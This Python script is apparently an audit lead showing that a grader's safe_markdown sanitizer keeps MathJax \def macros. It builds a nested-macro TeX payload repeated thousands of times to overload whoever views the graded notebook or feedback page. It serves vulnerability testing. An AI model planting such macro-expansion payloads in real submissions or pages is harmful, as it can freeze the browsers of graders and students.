"""a07 (offline, a lead): inert_math refuses MathJax commands that give the page an id, class, style, link or code, but
not macros: `\\def` / `\\newcommand` are global to the page in MathJax 2 (Formgrader's and the feedback page's
templates load 2.7.7 from cdnjs), so one definition of a macro that expands to ~4 KB of TeX (MathJax's maxBuffer is
5 KB an expression, maxMacros 10,000) lets every 5 characters (`$\\d$ `) of the budgets ask MathJax to typeset 512
nested superscripts. Checked here: such a written answer survives safe_markdown twice (graded notebook and feedback
page) with its definitions. Not measured: this machine has no network and no MathJax, so the pages load none."""
import sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
from grader.feedback import safe_markdown
src = r"$\def\a{x^{x^x}}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c}$" + "\n\n" + " ".join([r"$\d$"] * 9_900)
one = safe_markdown(src, [200_000, 10_000]); two = safe_markdown(one, [200_000, 10_000])
print("source", len(src), "characters;", one.count(r"$\d$"), "expressions kept in the graded notebook,", two.count(r"$\d$"), "in the feedback page;")
print("definitions kept:", r"\def\d{" in one and r"\def\d{" in two, "; each \\d expands to", 8 ** 3, "copies of x^{x^x} (",
      len("x^{x^x}") * 8 ** 3, "characters of TeX)")
